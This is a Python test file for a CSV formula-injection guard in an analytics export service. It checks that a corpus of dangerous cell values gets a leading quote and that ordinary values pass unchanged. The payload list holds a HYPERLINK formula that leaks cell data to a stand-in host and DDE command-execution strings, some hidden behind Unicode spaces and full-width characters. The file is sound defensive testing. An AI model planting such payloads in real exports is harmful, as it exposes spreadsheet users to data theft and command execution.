"""The formula guard against a corpus of CSV injection payloads, and what it leaves alone."""

from __future__ import annotations

import csv
import io

import pytest

from services.analytics.exports import csv_text
from services.analytics.formulas import neutralise_cell

# Each would run, or could run in some spreadsheet, if written as it is.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(A1)",
    "+1+1",
    "-1",
    "-2",
    "=",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tcmd",
    "\rcmd",
    "\ncmd",
    " =1",
    "   =1+1",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # a byte order mark
    '"=1',
    "'=x",
    "\"'=1+1",
    "\u201c=1+1",  # a typographic quote
    " ' \" @SUM(1)",
    "\uff1d1+1",  # full-width equals sign
    "\uff0d1",  # full-width minus
    "\uff0b1",  # full-width plus
    "\uff20x",  # full-width at sign
    " \uff1d1+1",
    "﹦1+1",  # the small form
    "+1 202 555 0143",  # a phone number, but not only + and digits
    "+1234567",  # too short for E.164
    "+1234567890123456",  # too long
    "+12025550143+1",
    "+١٢٠٢٥٥٥٠١٤٣",  # digits, but not ASCII ones
    "- call back next week",
]

# Ordinary values: names, notes, times, numbers, links, exactly E.164 numbers.
SAFE = [
    "",
    "+12025550143",
    "+4915112345678",
    "+14155550100",
    "Rosa's Trattoria",
    "Rosa's = best",
    "O'Brien & Sons",
    "A-1 Plumbing",
    "2pm-4pm",
    "9am-11am",
    "owner@example.com",
    "1+1",
    "100%",
    "2026-03-02T15:00:00Z",
    "https://example.com/?a=b",
    "Café Olé",
    "José Núñez",
    "日本語の会社",
    "Line one\nline two",
    "high interest",
    "not-dialled:frequency_cap",
    " leading space",
    "'quoted'",
    "\uff11\uff12\uff13",  # full-width digits
]


@pytest.mark.parametrize("payload", DANGEROUS)
def test_a_cell_a_spreadsheet_could_run_gets_a_quote_in_front(payload):
    assert neutralise_cell(payload) == f"'{payload}"


@pytest.mark.parametrize("value", SAFE)
def test_ordinary_values_are_written_as_they_are(value):
    assert neutralise_cell(value) == value


def test_numbers_stay_numbers_and_text_cells_are_guarded_in_the_written_csv():
    text = csv_text([[-3, -2.5, 0, "+12025550143", "-3", "\r=1+1", "=1,2"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["-3", "-2.5", "0", "+12025550143", "'-3", "'\r=1+1", "'=1,2"]
    ]
